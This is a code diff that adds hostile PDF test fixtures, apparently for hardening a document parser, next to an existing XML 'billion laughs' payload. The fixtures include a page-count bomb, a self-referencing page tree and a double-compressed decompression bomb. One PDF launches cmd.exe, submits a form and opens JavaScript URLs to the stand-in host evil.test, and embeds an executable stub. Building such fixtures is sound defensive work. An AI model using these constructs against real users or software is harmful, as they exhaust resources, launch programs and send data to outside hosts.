@@ -77,3 +77,77 @@ export const billionLaughs = Buffer.from(
     (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`,
   ).join('\n')}\n]>\n<order>&a10;</order>\n`,
 )
+
+/** A PDF of these objects, the first of them its catalog, with a table of where they lie. */
+const pdfOf = (objects: readonly (string | Buffer)[], trailer = ''): Buffer => {
+  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
+  const offsets: number[] = []
+  let at = parts[0]?.length ?? 0
+  for (const [index, object] of objects.entries()) {
+    const part = Buffer.concat([
+      Buffer.from(`${index + 1} 0 obj\n`),
+      Buffer.from(object as string),
+      Buffer.from('\nendobj\n'),
+    ])
+    offsets.push(at)
+    parts.push(part)
+    at += part.length
+  }
+  const lines = offsets.map(offset => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
+  parts.push(
+    Buffer.from(
+      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}trailer<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`,
+    ),
+  )
+  return Buffer.concat(parts)
+}
+
+const catalog = '<</Type/Catalog/Pages 2 0 R>>'
+
+/** So many pages, each with nothing on it. */
+export const pdfOfPages = (count: number): Buffer => {
+  const kids = Array.from({ length: count }, (_, at) => `${at + 3} 0 R`).join(' ')
+  const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]>>'
+  return pdfOf([
+    catalog,
+    `<</Type/Pages/Count ${count}/Kids[${kids}]>>`,
+    ...Array.from({ length: count }, () => page),
+  ])
+}
+
+/** A page tree that is its own branch. */
+export const pdfOfItself = (): Buffer =>
+  pdfOf([catalog, '<</Type/Pages/Count 2147483647/Kids[2 0 R 2 0 R]/Parent 2 0 R>>'])
+
+/** A page whose drawing unpacks to `bytes` bytes, packed twice. */
+export const pdfBomb = (bytes: number): Buffer => {
+  const zlib = (raw: Buffer) => Buffer.concat([Buffer.from([0x78, 0x9c]), raw, Buffer.alloc(4)])
+  const packed = zlib(deflateRawSync(zlib(deflatedZeros(bytes))))
+  const drawing = Buffer.concat([
+    Buffer.from(`<</Length ${packed.length}/Filter[/FlateDecode/FlateDecode]>>stream\n`),
+    packed,
+    Buffer.from('\nendstream'),
+  ])
+  return pdfOf([
+    catalog,
+    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
+    '<</Type/Page/Parent 2 0 R/Contents 4 0 R/MediaBox[0 0 612 792]>>',
+    drawing,
+  ])
+}
+
+/** A PDF that can be opened with a password alone. */
+export const pdfLocked = (): Buffer =>
+  pdfOf(
+    [catalog, '<</Type/Pages/Count 0/Kids[]>>'],
+    `/ID[<00><00>]/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -1/O(${'o'.repeat(48)})/U(${'u'.repeat(48)})>>`,
+  )
+
+/** Starts a program, posts a form, and carries a program with it. */
+export const pdfThatActs = (): Buffer =>
+  pdfOf([
+    '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)/Next<</S/URI/URI(https://evil.test/)/Next<</S/SubmitForm/F(https://evil.test/)>>>>>>/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>/JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL("https://evil.test"))>>]>>>>>>',
+    '<</Type/Pages/Count 0/Kids[]>>',
+    '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>',
+    '<</Length 2>>stream\nMZ\nendstream',
+  ])
